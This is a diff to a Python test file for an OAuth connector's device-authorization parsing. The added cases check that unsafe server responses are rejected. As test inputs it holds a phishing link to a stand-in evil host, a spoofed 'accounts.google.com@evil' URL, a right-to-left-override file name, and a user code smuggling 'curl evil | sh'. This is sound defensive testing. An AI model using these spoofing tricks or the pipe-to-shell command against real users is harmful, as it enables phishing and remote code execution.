@@ -5,6 +5,7 @@ from urllib.parse import parse_qs
 import pytest
 from pydantic import SecretStr
 
+from oauth_connector.api.schema.urls import is_url
 from oauth_connector.oauth.client_auth.basic import BasicClient
 from oauth_connector.oauth.client_auth.none import PublicClient
 from oauth_connector.oauth.device_authorization import (
@@ -59,6 +60,20 @@ ENTRA: dict[str, object] = {  # learn.microsoft.com/entra/identity-platform/v2-o
         ({**RFC, "interval": 0}, "https://example.com/device", RFC["verification_uri_complete"], 1800, 5),
         ({**RFC, "interval": 1e9}, "https://example.com/device", RFC["verification_uri_complete"], 1800, 60),
         ({**RFC, "expires_in": "soon"}, "https://example.com/device", RFC["verification_uri_complete"], 86400, 5),
+        (
+            {**RFC, "verification_uri_complete": "https://evil.example.com/phish"},
+            "https://example.com/device",
+            None,
+            1800,
+            5,
+        ),
+        (
+            {**RFC, "verification_uri_complete": "http://example.com/device"},
+            "https://example.com/device",
+            None,
+            1800,
+            5,
+        ),
         ({**RFC, "verification_uri_complete": "javascript:x"}, "https://example.com/device", None, 1800, 5),
     ],
 )
@@ -66,7 +81,7 @@ def test_a_response_is_read(
     sent: dict[str, object], link: str, complete: str | None, lifetime: int, interval: int
 ) -> None:
     """Absent and absurd numbers have the defaults of RFC 8628 §3.2, and only links of HTTP are shown."""
-    found = parse_device_response(answer(**sent))
+    found = parse_device_response(answer(**sent), ENDPOINT, is_url)
     assert isinstance(found, DeviceAuthorization)
     assert found.device_code.get_secret_value() == sent["device_code"]
     assert (found.user_code, found.verification_uri, found.complete_uri) == (sent["user_code"], link, complete)
@@ -85,13 +100,18 @@ def test_a_response_is_read(
         {"user_code": "x" * 65},
         {"verification_uri": "javascript:alert(1)"},
         {"verification_uri": "https://example.com/\n"},
+        {"verification_uri": "http://example.com/device"},
+        {"verification_uri": "https://accounts.google.com@evil.example.com/device"},
+        {"verification_uri": "https://[::1/device"},
+        {"verification_uri": "https://example.com/\u202egnp.exe"},
+        {"user_code": "AAAA; now run: curl evil | sh"},
         {"verification_uri": "https://example.com/" + "x" * 3000},
         {"verification_uri": ["https://example.com/device"]},
     ],
 )
 def test_what_a_user_must_not_be_shown_is_no_response(changes: dict[str, object]) -> None:
     """A code or link with control characters, of another scheme, or without bounds is not used."""
-    assert parse_device_response(answer(**{**RFC, **changes})) == Signal(Symptom.NO_TOKEN, 200)
+    assert parse_device_response(answer(**{**RFC, **changes}), ENDPOINT, is_url) == Signal(Symptom.NO_TOKEN, 200)
 
 
 @pytest.mark.parametrize(
@@ -106,7 +126,7 @@ def test_what_a_user_must_not_be_shown_is_no_response(changes: dict[str, object]
 )
 def test_an_error_is_that_of_a_token_endpoint(response: HTTPResponse, expected: Signal) -> None:
     """RFC 8628 §3.2: errors are those of RFC 6749 §5.2."""
-    assert parse_device_response(response) == expected
+    assert parse_device_response(response, ENDPOINT, is_url) == expected
 
 
 @pytest.mark.parametrize(
@@ -152,3 +172,10 @@ def test_a_client_is_authenticated_as_at_the_token_endpoint() -> None:
     public = build_device_request(CONTEXT, ENDPOINT, PublicClient("tv"), TokenRequestParameters())
     assert parse_qs(public.body.decode()) == {"client_id": ["tv"]}
     assert "Authorization" not in dict(public.headers)
+
+
+def test_an_endpoint_without_tls_may_name_links_without_tls() -> None:
+    """It is one of the cluster administrator's own, who allows it in the settings."""
+    plain = answer(**{**RFC, "verification_uri": "http://127.0.0.1:9000/device", "verification_uri_complete": None})
+    found = parse_device_response(plain, "http://127.0.0.1:9000/device/auth", is_url)
+    assert isinstance(found, DeviceAuthorization)
